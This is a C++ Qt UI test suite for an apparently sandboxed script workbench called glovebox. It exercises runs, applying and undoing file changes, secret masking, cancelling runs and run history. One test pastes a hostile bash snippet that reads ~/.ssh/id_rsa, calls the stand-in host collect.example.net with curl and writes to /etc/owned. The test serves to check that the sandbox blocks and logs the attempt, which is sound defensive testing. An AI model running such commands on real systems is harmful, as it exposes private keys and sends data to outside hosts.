// SPDX-License-Identifier: Apache-2.0
// People's work with the bench from beginning to end, with keys and mouse, judged by what they see and what is on disk.
#include "hand.h"

#include "app/workbench/runpanel/story/storycard.h"

#include <QClipboard>
#include <QFileDialog>
#include <QFontMetrics>
#include <QLineEdit>
#include <QPushButton>
#include <QToolButton>

using namespace glovebox;
using namespace Qt::StringLiterals;

class TestStories : public QObject, Hand
{
    Q_OBJECT

private:
    QTemporaryDir m_room{u"/tmp/glovebox-stories-XXXXXX"_s};
    QString m_folder;

    void put(const QString &name, const QByteArray &content)
    {
        QFile file(m_folder + u'/' + name);
        QVERIFY(file.open(QIODevice::WriteOnly) && file.write(content) == content.size());
    }
    QByteArray content(const QString &name)
    {
        QFile file(m_folder + u'/' + name);
        return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray("(none)");
    }
    void paste(const QString &code)
    {
        QGuiApplication::clipboard()->setText(code);
        QVERIFY(click(u"bench.editor"_s));
        QVERIFY(press(u"ctrl+a"_s) && press(u"ctrl+v"_s));
        QTRY_COMPARE(tab()->editor().text(), code);
    }
    QString blocked()
    {
        return see<QLabel>(u"bench.blocked.sentence"_s) ? see<QLabel>(u"bench.blocked.sentence"_s)->text() : QString();
    }
    QString changesSaid()
    {
        return see<QLabel>(u"bench.changes.summary"_s) ? see<QLabel>(u"bench.changes.summary"_s)->text() : QString();
    }
    QString word(const QString &name)
    {
        const auto *button = see<QToolButton>(u"bench.policy."_s + name);
        return button ? button->text() : QString();
    }

    bool command(const QString &words) // of the palette
    {
        return press(u"ctrl+shift+p"_s) && QTest::qWaitFor([&] { return hasKeyboard(u"frame.palette.field"_s); })
               && write(words) && press(u"Return"_s);
    }

private Q_SLOTS:
    void init()
    {
        m_folder = m_room.filePath(u"src"_s);
        QVERIFY(QDir(m_folder).removeRecursively() && QDir().mkpath(m_folder));
        sitDown();
    }
    void cleanup() { m_desk.reset(); }

    void aHostileSnippetIsPastedAndReadBack();
    void aHostIsLetInFromTheBlockedLine();
    void threeOfFiveChangesAreAppliedAndUndone();
    void theSameByKeyboardOnly();
    void aKeyIsLentAndNeverShown();
    void aRunThatHangsIsReplacedAndAnotherGoesOnBeside();
    void aFileThatARunLeftIsSaved();
    void aFileThatARunLeftIsDraggedIntoTheEditor();
    void aProgressBarIsWatched_data();
    void aProgressBarIsWatched();
    void aNeedleIsFoundInManyLines();
    void aShortcutIsChangedAndUsed();
    void yesterdaysRunIsFoundByItsOutcome();
};

void TestStories::aHostileSnippetIsPastedAndReadBack()
{
    paste(u"#!/usr/bin/env bash\ncat ~/.ssh/id_rsa\ncurl -s -m 2 https://collect.example.net/?k=1\n"
          "(setsid sleep 500 &)\necho $HOME > /etc/owned\necho done\n"_s);
    QTRY_VERIFY2(word(u"language"_s).startsWith(u"Bash"_s), qPrintable(word(u"language"_s)));
    QVERIFY(click(u"bench.run"_s));
    QVERIFY(isRunDone(1));
    QTRY_VERIFY2(wordsIn(u"bench.story"_s).contains(u"collect.example.net"_s), qPrintable(wordsIn(u"bench.story"_s)));
    QVERIFY2(blocked().contains(u"collect.example.net"_s), qPrintable(blocked()));
    QVERIFY2(shown().contains(u"done"_s), qPrintable(shown()));
    QVERIFY(!QFile::exists(u"/etc/owned"_s));
    QVERIFY(m_desk->save(u"story-hostile"_s));
    // A reviewer finds the run, and in its details what it tried.
    QVERIFY(click(u"frame.rail.history"_s));
    QTRY_VERIFY(see<QAbstractItemView>(u"history.runs"_s)
                && see<QAbstractItemView>(u"history.runs"_s)->model()->rowCount() == 1);
    QVERIFY(clickRow(u"history.runs"_s, 0));
    QTRY_VERIFY2(wordsIn(u"history.details"_s).contains(u"collect.example.net"_s),
                 qPrintable(wordsIn(u"history.details"_s)));
}

void TestStories::aHostIsLetInFromTheBlockedLine()
{
    paste(
        u"import socket\ntry:\n    socket.create_connection((\"collect.example.net\", 443), 2)\nexcept OSError as e:\n"
        "    print(e)\n"_s);
    QVERIFY(press(u"ctrl+Return"_s));
    QVERIFY(isRunDone(1));
    QTRY_VERIFY2(blocked().contains(u"collect.example.net"_s), qPrintable(blocked()));
    QVERIFY(click(u"bench.blocked.session"_s));
    QVERIFY(isRunDone(2));
    QCOMPARE(tab()->runs().current()->policy().allow.size(), 1);
    QVERIFY(tab()->runs().current()->policy().allow.first().startsWith(u"collect.example.net"_s));
    QTRY_VERIFY2(word(u"hosts"_s).contains(u"1 host"_s), qPrintable(word(u"hosts"_s)));
}

void TestStories::threeOfFiveChangesAreAppliedAndUndone()
{
    put(u"a.txt"_s, "one\ntwo\n");
    put(u"c.txt"_s, "gone\n");
    paste(
        u"#!/bin/sh\ncd /work/src\nsed -i s/two/zwei/ a.txt\necho new > b.txt\nrm c.txt\necho x > d.txt\necho all: > Makefile\n"_s);
    QVERIFY(click(u"bench.policy.folders"_s));
    QTRY_VERIFY(see<QWidget>(u"bench.folders.path"_s));
    QVERIFY(write(m_folder));
    QVERIFY(press(u"Return"_s));
    QTRY_VERIFY(see<QComboBox>(u"bench.folders.mode1"_s));
    QVERIFY(click(u"bench.folders.mode1"_s));
    QVERIFY(press(u"Home"_s) && press(u"Down"_s) && press(u"Return"_s));
    QTRY_COMPARE(see<QComboBox>(u"bench.folders.mode1"_s)->currentIndex(), 1);
    QVERIFY(press(u"Escape"_s));
    QTRY_VERIFY2(word(u"folders"_s).contains(u"1 folder"_s), qPrintable(word(u"folders"_s)));
    QVERIFY(click(u"bench.run"_s));
    QVERIFY(isRunDone(1));
    QVERIFY(clickTab(u"bench.runtabs"_s, u"Changes"_s));
    QTRY_VERIFY2(changesSaid().contains(u"5 changes in the copy"_s), qPrintable(changesSaid()));
    QCOMPARE(content(u"a.txt"_s), "one\ntwo\n");
    // Makefile is first and unchecked; one more is left out.
    QVERIFY(clickRow(u"bench.changes.list"_s, 4, Cell::CheckMark));
    QTRY_COMPARE(see<QPushButton>(u"bench.changes.apply"_s)->text(), u"Apply 3 of 5…"_s);
    QVERIFY(m_desk->save(u"story-changes"_s));
    QVERIFY(click(u"bench.changes.apply"_s));
    QVERIFY(click(u"bench.changes.really"_s));
    QTRY_VERIFY2(changesSaid().startsWith(u"3 changes applied"_s), qPrintable(changesSaid()));
    QCOMPARE(content(u"a.txt"_s), "one\nzwei\n");
    QCOMPARE(content(u"b.txt"_s), "new\n");
    QCOMPARE(content(u"c.txt"_s), "(none)");
    QCOMPARE(content(u"d.txt"_s), "(none)");
    QCOMPARE(content(u"Makefile"_s), "(none)");
    QVERIFY(click(u"bench.changes.undo"_s));
    QTRY_VERIFY2(changesSaid().startsWith(u"3 changes undone"_s), qPrintable(changesSaid()));
    QCOMPARE(content(u"a.txt"_s), "one\ntwo\n");
    QCOMPARE(content(u"b.txt"_s), "(none)");
    QCOMPARE(content(u"c.txt"_s), "gone\n");
}

// No mouse: commands of the palette where there are no shortcuts.
void TestStories::theSameByKeyboardOnly()
{
    put(u"a.txt"_s, "one\ntwo\n");
    QVERIFY(write(u"cd src; sed -i s/two/zwei/ a.txt; echo new > b.txt"_s));
    QVERIFY(command(u"choose the language"_s));
    QTRY_VERIFY(see<QWidget>(u"bench.language"_s));
    QTRY_VERIFY(see<QAbstractButton>(u"bench.language.sh"_s));
    for (int i = 0; i < 8 && QApplication::focusWidget() != see<QWidget>(u"bench.language.sh"_s); ++i)
        QVERIFY(press(u"Down"_s));
    QVERIFY(press(u"space"_s) && press(u"Escape"_s));
    QTRY_COMPARE(tab()->language(), u"sh"_s);
    QVERIFY(command(u"choose the folders"_s));
    QTRY_VERIFY(see<QWidget>(u"bench.folders.path"_s));
    QVERIFY(write(m_folder) && press(u"Return"_s));
    QTRY_VERIFY(see<QComboBox>(u"bench.folders.mode1"_s));
    for (int i = 0; i < 8 && QApplication::focusWidget() != see<QWidget>(u"bench.folders.mode1"_s); ++i)
        QVERIFY(press(u"Tab"_s));
    QCOMPARE(QApplication::focusWidget(), see<QWidget>(u"bench.folders.mode1"_s));
    QVERIFY(press(u"Up"_s) && press(u"Down"_s));
    QTRY_COMPARE(see<QComboBox>(u"bench.folders.mode1"_s)->currentIndex(), 1);
    QVERIFY(press(u"Escape"_s));
    QTRY_VERIFY2(word(u"folders"_s).contains(u"1 folder"_s), qPrintable(word(u"folders"_s)));
    QVERIFY(press(u"ctrl+Return"_s));
    QVERIFY(isRunDone(1));
    QVERIFY(command(u"show what the run changed"_s));
    QTRY_VERIFY2(changesSaid().startsWith(u"2 changes"_s), qPrintable(changesSaid() + shown()));
    QVERIFY(command(u"apply what the run changed"_s));
    QTRY_VERIFY(see<QPushButton>(u"bench.changes.really"_s));
    for (int i = 0; i < 8 && QApplication::focusWidget() != see<QWidget>(u"bench.changes.really"_s); ++i)
        QVERIFY(press(u"shift+Tab"_s));
    QVERIFY(press(u"space"_s));
    QTRY_VERIFY2(changesSaid().startsWith(u"2 changes applied"_s), qPrintable(changesSaid()));
    QCOMPARE(content(u"a.txt"_s), "one\nzwei\n");
    QVERIFY(command(u"undo what was applied"_s));
    QTRY_VERIFY2(changesSaid().startsWith(u"2 changes undone"_s), qPrintable(changesSaid()));
    QCOMPARE(content(u"a.txt"_s), "one\ntwo\n");
}

void TestStories::aKeyIsLentAndNeverShown()
{
    QVERIFY(click(u"frame.rail.vault"_s));
    QVERIFY(press(u"ctrl+n"_s));
    QTRY_VERIFY(see<QWidget>(u"vault.form.name"_s));
    QVERIFY(click(u"vault.form.name"_s) && write(u"API_KEY"_s));
    QVERIFY(click(u"vault.form.value"_s) && write(u"sk-live-4711-secret-value"_s));
    QVERIFY(click(u"vault.form.save"_s));
    QTRY_VERIFY(see<QAbstractItemView>(u"vault.list"_s)
                && see<QAbstractItemView>(u"vault.list"_s)->model()->rowCount() == 1);
    QVERIFY(click(u"frame.rail.bench"_s));
    paste(u"import os\nprint(os.environ['API_KEY'], os.environ['API_KEY'][::-1])\n"_s);
    QVERIFY(click(u"bench.policy.secrets"_s));
    QVERIFY(check(u"bench.secrets.name1"_s));
    QVERIFY(press(u"Escape"_s));
    QTRY_VERIFY2(word(u"secrets"_s).contains(u"secret API_KEY"_s), qPrintable(word(u"secrets"_s)));
    QVERIFY(press(u"ctrl+Return"_s));
    QVERIFY(isRunDone(1));
    QTRY_VERIFY2(shown().contains(u"[secret API_KEY]"_s), qPrintable(shown()));
    QVERIFY(!shown().contains(u"4711"_s) && !shown().contains(u"1174"_s));
    QTRY_VERIFY2(wordsIn(u"bench.story"_s).contains(u"printed API_KEY"_s), qPrintable(wordsIn(u"bench.story"_s)));
}

void TestStories::aRunThatHangsIsReplacedAndAnotherGoesOnBeside()
{
    paste(u"import time\nprint('first', flush=True)\ntime.sleep(600)\n"_s);
    QVERIFY(press(u"ctrl+Return"_s));
    QTRY_VERIFY_WITH_TIMEOUT(shown().contains(u"first"_s), 20'000);
    paste(u"import time\nprint('second', flush=True)\ntime.sleep(600)\n"_s);
    QVERIFY(click(u"bench.run"_s)); // stops what goes on
    QTRY_VERIFY_WITH_TIMEOUT(shown().contains(u"second"_s), 20'000);
    QCOMPARE(tab()->runs().liveRuns(), 1);
    QVERIFY(press(u"ctrl+alt+Return"_s));
    QTRY_COMPARE_WITH_TIMEOUT(tab()->runs().liveRuns(), 2, 20'000);
    QVERIFY(press(u"ctrl+shift+period"_s));
    QTRY_COMPARE_WITH_TIMEOUT(tab()->runs().liveRuns(), 0, 20'000);
    for (const ShownRun *run : tab()->runs().runs())
        QVERIFY(run->result()->outcome == Outcome::Cancelled);
}

void TestStories::aFileThatARunLeftIsSaved()
{
    paste(u"open('table.csv', 'w').write('name,size\\npear,4\\n')\n"_s);
    QVERIFY(press(u"ctrl+Return"_s));
    QVERIFY(isRunDone(1));
    QVERIFY(clickTab(u"bench.runtabs"_s, u"Files"_s));
    QVERIFY(clickRow(u"bench.artifacts.list"_s, 0));
    QVERIFY(m_desk->save(u"story-files"_s));
    QVERIFY(click(u"bench.artifacts.save"_s));
    QTRY_VERIFY(qobject_cast<QFileDialog *>(QApplication::activeModalWidget()));
    QTRY_VERIFY(QApplication::activeModalWidget()->isActiveWindow());
    QVERIFY(press(u"ctrl+a"_s) && write(m_folder + u"/mine.csv"_s));
    const auto isOver = [] { return !QApplication::activeModalWidget(); };
    // Qt's list of names that begin so takes the first Return, where it is open.
    for (int i = 0; i < 5 && !isOver(); ++i) {
        QVERIFY(press(u"Return"_s));
        (void)QTest::qWaitFor(isOver, 1000);
    }
    QTRY_COMPARE(content(u"mine.csv"_s), "name,size\npear,4\n");
}

// A copy of the file, which opens in a tab where it is let go.
void TestStories::aFileThatARunLeftIsDraggedIntoTheEditor()
{
    paste(u"open('a.txt', 'w').write('first')\nopen('b.txt', 'w').write('dragged')\n"_s);
    QVERIFY(press(u"ctrl+Return"_s));
    QVERIFY(isRunDone(1));
    QVERIFY(clickTab(u"bench.runtabs"_s, u"Files"_s));
    QVERIFY(clickRow(u"bench.artifacts.list"_s, 1));
    const auto *list = see<QAbstractItemView>(u"bench.artifacts.list"_s);
    const QPoint from = list->visualRect(list->model()->index(1, 0)).center();
    QVERIFY(drag(list->viewport(), from, see<QWidget>(u"bench.editor"_s), {80, 40}));
    QTRY_COMPARE(tab()->editor().text(), u"dragged"_s);
    QCOMPARE(tab()->name(), u"b.txt"_s);
}

void TestStories::aProgressBarIsWatched_data()
{
    QTest::addColumn<bool>("isTerminal");
    QTest::newRow("in a terminal") << true;
    QTest::newRow("without one") << false;
}

// As tqdm draws it, byte by byte: a return, the bar, and spaces where it was longer before.
void TestStories::aProgressBarIsWatched()
{
    QFETCH(bool, isTerminal);
    paste(u"import sys, time\nlast = 0\ndef show(line):\n    global last\n"
          "    sys.stderr.write('\\r' + line + ' ' * max(last - len(line), 0))\n    sys.stderr.flush()\n"
          "    last = len(line)\n\n"
          "show('  0%|          | 0/40 [00:00<?, ?it/s]')\n"
          "for i in range(1, 41):\n    time.sleep(0.05)\n"
          "    show(f'{100 * i // 40:3}%|{\"█\" * (i // 4):10}| {i}/40 [00:00<00:00, {i / 2:5.2f}it/s]')\n"
          "sys.stderr.write('\\n')\nprint('terminal:', sys.stdout.isatty(), file=sys.stderr)\n"_s);
    if (isTerminal) {
        QVERIFY(command(u"choose whether it has a terminal"_s));
        QVERIFY(check(u"bench.terminal.on"_s));
        QTRY_VERIFY(!see<QWidget>(u"bench.terminal.on"_s));
    }
    QVERIFY(press(u"ctrl+Return"_s));
    QTRY_VERIFY_WITH_TIMEOUT(shown().contains(u"/40"_s), 20'000); // while it goes on
    QCOMPARE(shown().count(u"/40"_s), 1);
    QVERIFY(isRunDone(1));
    QTRY_VERIFY2(shown().contains(isTerminal ? u"terminal: True"_s : u"terminal: False"_s), qPrintable(shown()));
    QVERIFY2(shown().contains(u"100%|██████████| 40/40 [00:00<00:00, 20.00it/s]"_s) && shown().count(u"/40"_s) == 1,
             qPrintable(shown()));
    QVERIFY(m_desk->save(isTerminal ? u"story-progress-terminal"_s : u"story-progress"_s));
}

void TestStories::aNeedleIsFoundInManyLines()
{
    paste(u"for i in range(20000): print(i, 'needle' if i == 17 else 'hay')\n"_s);
    QVERIFY(press(u"ctrl+Return"_s));
    QVERIFY(isRunDone(1));
    QVERIFY(click(u"bench.output"_s));
    QVERIFY(press(u"ctrl+f"_s));
    QVERIFY(write(u"needle"_s) && press(u"Return"_s));
    QTRY_COMPARE(wordsIn(u"bench.output.find"_s), u"1 of 1"_s);
    QVERIFY(tab()->runs().output()->isVisible());
}

void TestStories::aShortcutIsChangedAndUsed()
{
    paste(u"print('ran by another key')\n"_s);
    QVERIFY(press(u"F1"_s));
    QTRY_VERIFY(hasKeyboard(u"frame.shortcuts.search"_s));
    QVERIFY(write(u"Run"_s));
    QTRY_COMPARE(see<QLineEdit>(u"frame.shortcuts.search"_s)->text(), u"Run"_s);
    QVERIFY(clickRow(u"frame.shortcuts.list"_s, 0));
    QVERIFY(click(u"frame.shortcuts.keys"_s));
    QTRY_VERIFY(hasKeyboard(u"frame.shortcuts.keys"_s));
    QVERIFY(press(u"ctrl+shift+r"_s));
    QVERIFY(click(u"frame.shortcuts.give"_s));
    QTRY_VERIFY(hasKeyboard(u"frame.shortcuts.list"_s));
    QVERIFY(m_desk->save(u"story-shortcuts"_s));
    QVERIFY(press(u"Escape"_s));
    QTRY_VERIFY(!see<QWidget>(u"frame.shortcuts.search"_s) && m_desk->frame.isActiveWindow());
    QVERIFY(press(u"ctrl+shift+r"_s));
    QVERIFY(isRunDone(1));
    QVERIFY(shown().contains(u"ran by another key"_s));
}

void TestStories::yesterdaysRunIsFoundByItsOutcome()
{
    paste(u"print('fine')\n"_s);
    QVERIFY(press(u"ctrl+Return"_s) && isRunDone(1));
    paste(u"raise SystemExit(3)\n"_s);
    QVERIFY(press(u"ctrl+Return"_s) && isRunDone(2));
    QVERIFY(press(u"ctrl+2"_s));
    const auto rows = [this] {
        const auto *list = see<QAbstractItemView>(u"history.runs"_s);
        return list ? list->model()->rowCount() : -1;
    };
    QTRY_COMPARE(rows(), 2);
    QVERIFY(click(u"history.filter.outcome"_s));
    QTRY_VERIFY(QApplication::activePopupWidget()); // what is typed before that goes to the page
    QVERIFY(write(u"Failed"_s) && press(u"Return"_s));
    QTRY_COMPARE(rows(), 1);
    QVERIFY(clickRow(u"history.runs"_s, 0));
    QVERIFY(click(u"history.details.open"_s));
    QTRY_COMPARE(tab()->editor().text(), u"raise SystemExit(3)\n"_s);
}

GLOVEBOX_TEST_MAIN(TestStories)
#include "tst_stories.moc"
